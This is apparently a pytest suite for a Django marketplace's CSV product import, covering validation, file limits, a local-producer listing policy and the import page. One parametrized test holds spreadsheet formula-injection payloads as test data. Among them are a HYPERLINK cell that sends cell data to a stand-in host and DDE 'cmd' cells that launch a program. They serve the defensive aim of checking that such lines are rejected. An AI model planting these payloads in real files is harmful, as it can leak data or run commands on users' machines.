"""The CSV import: many products at once, through the same services (and the same
listing policy) as the form. A hostile or broken file is refused with a reason a seller
understands, and imports nothing; a bad line is reported and leaves nothing behind."""

from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from catalog.models import Product
from catalog.services.imports import ImportRefused, products_import
from policy.models import ListingDecision
from sellers.models import Cooperative

pytestmark = pytest.mark.django_db

HEADER = "sku,title,category,price,stock,unit,description,publish"
GOOD = [
    "MAT-01,Pandan leaf mat,household-goods,85000,12,piece,Woven by hand,no",
    "KET-01,Copper kettle,kitchenware,300000.50,4,piece,,yes",
    "SAR-01,Ikat sarong (indigo),woven-sarongs,850000,2,piece,Natural dyes,yes",
]


def _csv(lines, header=HEADER, *, name="products.csv", encoding="utf-8") -> SimpleUploadedFile:
    text = "\n".join([header, *lines]) + "\n"
    return SimpleUploadedFile(name, text.encode(encoding), "text/csv")


@pytest.fixture
def local(seller, categories, rules):
    return seller()


@pytest.fixture
def run(local):
    cooperative, user = local

    def run_import(upload, *, cooperative=cooperative, actor=user):
        return products_import(cooperative=cooperative, actor=actor, upload=upload)

    return run_import


def _by_sku(cooperative) -> dict[str, Product]:
    return {p.sku: p for p in Product.objects.filter(cooperative=cooperative)}


def test_a_good_file_creates_drafts_and_publishes_the_lines_that_ask(run, local, categories):
    cooperative, _user = local
    report = run(_csv(GOOD))
    assert sorted(report.created) == ["KET-01", "MAT-01", "SAR-01"]
    assert sorted(report.published) == ["KET-01", "SAR-01"]
    assert report.rejected == [] and report.blocked == []
    products = _by_sku(cooperative)
    assert products["MAT-01"].status == Product.Status.DRAFT
    assert products["KET-01"].status == Product.Status.ACTIVE
    assert products["KET-01"].price == Decimal("300000.50")
    assert products["KET-01"].category == categories["kitchenware"]
    assert products["SAR-01"].title == "Ikat sarong (indigo)"
    assert products["MAT-01"].description == "Woven by hand"
    assert products["MAT-01"].origin_province == cooperative.province
    triggers = set(
        ListingDecision.objects.filter(product__cooperative=cooperative).values_list(
            "trigger", flat=True
        )
    )
    assert triggers == {ListingDecision.Trigger.IMPORT}


def test_importing_the_same_file_again_changes_nothing(run, local):
    cooperative, _user = local
    run(_csv(GOOD))
    before = {sku: (p.updated_at, p.status) for sku, p in _by_sku(cooperative).items()}
    report = run(_csv(GOOD))
    assert sorted(report.unchanged) == ["KET-01", "MAT-01", "SAR-01"]
    assert report.created == report.updated == report.published == report.rejected == []
    assert Product.objects.count() == 3
    after = {sku: (p.updated_at, p.status) for sku, p in _by_sku(cooperative).items()}
    assert after == before


def test_a_changed_price_updates_that_product_only(run, local):
    cooperative, _user = local
    run(_csv(GOOD))
    changed = [GOOD[0].replace("85000", "92500.25"), *GOOD[1:]]
    report = run(_csv(changed))
    assert report.updated == ["MAT-01"]
    assert sorted(report.unchanged) == ["KET-01", "SAR-01"]
    products = _by_sku(cooperative)
    assert products["MAT-01"].price == Decimal("92500.25")
    assert products["KET-01"].status == Product.Status.ACTIVE
    assert Product.objects.count() == 3


def test_a_file_with_only_the_required_columns_updates_prices_and_keeps_the_rest(
    run, local, make_product
):
    # A seller exports sku, title, category, price and stock to change the prices:
    # the description, story, unit and certificate already typed must survive.
    cooperative, _user = local
    coffee = make_product(
        cooperative=cooperative,
        category="coffee",
        sku="KOPI-1",
        title="Gayo arabica",
        price=Decimal("90000"),
        unit=Product.Unit.KG,
        description="Washed process",
        story="Grown at 1,400 m",
        certificate_number="ID-HALAL-77",
    )
    assert coffee.status == Product.Status.ACTIVE
    report = run(
        _csv(
            ["KOPI-1,Gayo arabica,coffee-tea,95000,20"],
            header="sku,title,category,price,stock",
        )
    )
    assert report.updated == ["KOPI-1"] and report.rejected == []
    coffee.refresh_from_db()
    assert coffee.price == Decimal("95000") and coffee.stock == 20
    assert coffee.description == "Washed process"
    assert coffee.story == "Grown at 1,400 m"
    assert coffee.unit == Product.Unit.KG
    assert coffee.certificate_number == "ID-HALAL-77"
    assert coffee.status == Product.Status.ACTIVE


def test_semicolons_tabs_a_bom_and_windows_line_ends_are_understood(run, local):
    cooperative, _user = local
    semicolons = "\r\n".join(
        ["\ufeffSKU;Title;Category;Price;Stock", "A-1;Mat, large;household-goods;85000;3"]
    )
    tabs = "sku\ttitle\tcategory\tprice\tstock\nA-2\tSpoon\tkitchenware\t12000\t7\n"
    run(SimpleUploadedFile("a.csv", semicolons.encode()))
    run(SimpleUploadedFile("b.csv", tabs.encode()))
    products = _by_sku(cooperative)
    assert products["A-1"].title == "Mat, large"
    assert products["A-2"].stock == 7


def test_quotes_doubled_by_a_spreadsheet_are_read_anywhere_in_the_file(run, local):
    # "CSV UTF-8" from a spreadsheet escapes a quote by doubling it; the line may come
    # after the first few kilobytes of the file.
    cooperative, _user = local
    lines = [f"B-{n:03d},Basket {n},household-goods,85000,3" for n in range(200)]
    lines.append('TRAY-12,"Rattan tray 12"" wide",household-goods,45000,2')
    report = run(_csv(lines, header="sku,title,category,price,stock"))
    assert report.rejected == []
    assert _by_sku(cooperative)["TRAY-12"].title == 'Rattan tray 12" wide'


@pytest.mark.parametrize(
    ("header", "missing"),
    [
        ("sku,title,category,price", "stock"),
        ("sku,name,category,price,stock", "title"),
        ("", "sku"),
        ("reference;label;cat;amount;qty", "sku"),
    ],
    ids=["no-stock", "wrong-title-column", "empty-header", "all-wrong"],
)
def test_a_file_with_wrong_or_missing_columns_is_refused(run, header, missing):
    upload = _csv(["X-1,Mat,household-goods,85000,3"], header=header)
    with pytest.raises(ImportRefused, match="Missing columns") as refused:
        run(upload)
    assert missing in refused.value.message
    assert not Product.objects.exists()


def test_an_empty_file_is_refused(run):
    with pytest.raises(ImportRefused, match="Missing columns"):
        run(SimpleUploadedFile("empty.csv", b""))


@pytest.mark.parametrize(
    ("line", "column"),
    [
        (
            'F-1,"=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")",household-goods,1000,1,,,',
            "title",
        ),
        ("F-2,Mat,household-goods,1000,1,,+cmd|' /C calc'!A0,", "description"),
        ("F-3,Mat,household-goods,1000,1,,@SUM(1+1)*cmd|' /C calc'!A0,", "description"),
        ("F-4,-2+3+cmd|' /C calc'!A0,household-goods,1000,1,,,", "title"),
        ("=1+1,Mat,household-goods,1000,1,,,", "sku"),
        ("F-6,Mat,=A1,1000,1,,,", "category"),
        ("F-7,Mat,household-goods,1000,1,\t=1+1,,", "unit"),
    ],
    ids=["hyperlink", "plus-cmd", "at-sum", "minus", "in-sku", "in-category", "tab-equals"],
)
def test_a_formula_cell_rejects_its_line_with_the_reason(run, local, line, column):
    cooperative, _user = local
    report = run(_csv([line, "OK-1,Plain mat,household-goods,1000,1,,,"]))
    assert report.created == ["OK-1"]
    assert len(report.rejected) == 1
    line_number, _sku, reason = report.rejected[0]
    assert line_number == 2
    assert "formula" in reason and column in reason
    assert list(_by_sku(cooperative)) == ["OK-1"]


def test_a_file_that_is_not_utf8_is_refused(run):
    upload = _csv(["L-1,Tenun ikat café crème,woven-sarongs,85000,3,,,"], encoding="latin-1")
    with pytest.raises(ImportRefused, match="UTF-8"):
        run(upload)
    assert not Product.objects.exists()


def test_a_file_over_two_megabytes_is_refused(run):
    filler = "x" * 1000
    lines = [f"S-{n},Mat {n},household-goods,1000,1,,{filler}," for n in range(2200)]
    upload = _csv(lines)
    assert upload.size > 2 * 1024 * 1024
    with pytest.raises(ImportRefused, match="larger than 2 MB"):
        run(upload)
    assert not Product.objects.exists()


def test_a_file_over_five_thousand_lines_is_refused(run):
    upload = _csv(
        [f"S-{n},Mat,household-goods,1000,1" for n in range(5001)],
        header="sku,title,category,price,stock",
    )
    with pytest.raises(ImportRefused, match="more than 5000"):
        run(upload)
    assert not Product.objects.exists()


def test_a_binary_file_with_nul_bytes_is_refused(run):
    upload = SimpleUploadedFile(
        "products.csv", b"sku,title,category,price,stock\nS-1,Mat\x00,household-goods,1000,1\n"
    )
    with pytest.raises(ImportRefused, match="not a CSV"):
        run(upload)
    assert not Product.objects.exists()


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("R-1,Mat,household-goods,1000,1,piece,desc,no,EXTRA,CELLS", "more cells"),
        ("R-1,Mat,no-such-category,1000,1,,,", "Unknown category"),
        ("R-1,Mat,household-goods,-1000,1,,,", "more than 0"),
        ("R-1,Mat,household-goods,0,1,,,", "more than 0"),
        ("R-1,Mat,household-goods,1e9999,1,,,", "more than 0"),
        ("R-1,Mat,household-goods,NaN,1,,,", "more than 0"),
        ("R-1,Mat,household-goods,12.345,1,,,", "two decimals"),
        ("R-1,Mat,household-goods,cheap,1,,,", "number"),
        ("R-1,Mat,household-goods,1000,-3,,,", "whole number from 0"),
        ("R-1,Mat,household-goods,1000,2.5,,,", "not a whole number"),
        ("R-1,Mat,household-goods,1000,99999999999,,,", "whole number from 0"),
        ("R-1,Mat,household-goods,1000,1,barrel,,", "Unknown unit"),
        (",Mat,household-goods,1000,1,,,", "SKU is empty"),
        ("R-1,,household-goods,1000,1,,,", "title"),
    ],
    ids=[
        "extra-cells",
        "unknown-category",
        "negative-price",
        "zero-price",
        "huge-price",
        "nan-price",
        "three-decimals",
        "word-price",
        "negative-stock",
        "fractional-stock",
        "huge-stock",
        "unknown-unit",
        "no-sku",
        "no-title",
    ],
)
def test_a_bad_line_is_rejected_with_its_reason_and_leaves_nothing(run, local, line, reason):
    cooperative, _user = local
    report = run(_csv([line, "OK-1,Plain mat,household-goods,1000,1,,,yes"]))
    assert len(report.rejected) == 1, report.rejected
    line_number, _sku, message = report.rejected[0]
    assert line_number == 2
    assert reason in message
    assert list(_by_sku(cooperative)) == ["OK-1"]
    assert report.published == ["OK-1"]
    assert not ListingDecision.objects.exclude(product__sku="OK-1").exists()


def test_a_foreign_cooperatives_sarong_is_reported_blocked_like_in_the_form(
    seller, categories, rules
):
    cooperative, user = seller("CN")
    upload = _csv(
        [
            "SAR-9,Songket sarong,woven-sarongs,2500000,3,,,yes",
            "POT-9,Enamel pot,household-goods,2500000,3,,,yes",
        ]
    )
    report = products_import(cooperative=cooperative, actor=user, upload=upload)
    assert report.created == ["SAR-9", "POT-9"]
    assert report.published == ["POT-9"]
    assert [(line, sku) for line, sku, _ in report.blocked] == [(2, "SAR-9")]
    assert "protected for local producers" in report.blocked[0][2]
    products = _by_sku(cooperative)
    assert products["SAR-9"].status == Product.Status.BLOCKED
    assert products["POT-9"].status == Product.Status.ACTIVE
    decision = products["SAR-9"].policy_decisions.get(outcome=ListingDecision.Outcome.BLOCKED)
    assert decision.rule == rules["protected_category"]
    assert decision.trigger == ListingDecision.Trigger.IMPORT

    again = products_import(cooperative=cooperative, actor=user, upload=upload)
    assert again.created == [] and [sku for _, sku, _ in again.blocked] == ["SAR-9"]
    assert _by_sku(cooperative)["SAR-9"].status == Product.Status.BLOCKED


def test_a_cooperative_not_yet_verified_imports_drafts_and_each_line_is_counted_once(
    seller, categories, rules
):
    # The import page promises: "lines asking to publish stay drafts"; and of rejected
    # lines: "Nothing was saved from these lines".
    cooperative, user = seller(status=Cooperative.Status.PENDING)
    report = products_import(
        cooperative=cooperative,
        actor=user,
        upload=_csv(["P-1,Mat,household-goods,1000,1,,,yes"]),
    )
    product = Product.objects.get()
    assert product.status == Product.Status.DRAFT
    assert report.created == ["P-1"] and report.published == []
    assert report.total == 1
    assert [sku for _, sku, _ in report.rejected] == []


# --- Through the page ----------------------------------------------------------------


def test_the_import_page_shows_the_report(client, local):
    _cooperative, user = local
    client.force_login(user)
    page = client.get(reverse("catalog:product_import"))
    assert page.status_code == 200
    assert "woven-sarongs" in page.content.decode()  # the category codes are listed
    lines = [*GOOD, "BAD-1,=HYPERLINK(1),household-goods,1000,1,,,"]
    response = client.post(reverse("catalog:product_import"), {"file": _csv(lines)})
    assert response.status_code == 200
    report = response.context["report"]
    assert len(report.created) == 3 and len(report.rejected) == 1
    html = response.content.decode()
    assert "BAD-1" in html and "formula" in html
    assert "=HYPERLINK" not in html
    assert Product.objects.count() == 3


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("café;crème".encode("latin-1"), "UTF-8"),
        (b"\x00\x01binary", "not a CSV"),
        (b"reference,label\nx,y\n", "Missing columns"),
    ],
    ids=["latin-1", "binary", "wrong-columns"],
)
def test_a_refused_file_is_a_field_error_on_the_page_and_imports_nothing(
    client, local, content, message
):
    _cooperative, user = local
    client.force_login(user)
    upload = SimpleUploadedFile("products.csv", content, "text/csv")
    response = client.post(reverse("catalog:product_import"), {"file": upload})
    assert response.status_code == 200
    assert message in " ".join(response.context["form"].errors["file"])
    assert response.context["report"] is None
    assert not Product.objects.exists()


def test_the_import_page_imports_into_the_sessions_cooperative_only(client, local, seller):
    cooperative, user = local
    other, _ = seller()
    client.force_login(user)
    client.post(
        reverse("catalog:product_import"),
        {"file": _csv(GOOD), "cooperative": other.pk},
    )
    assert set(Product.objects.values_list("cooperative", flat=True)) == {cooperative.pk}
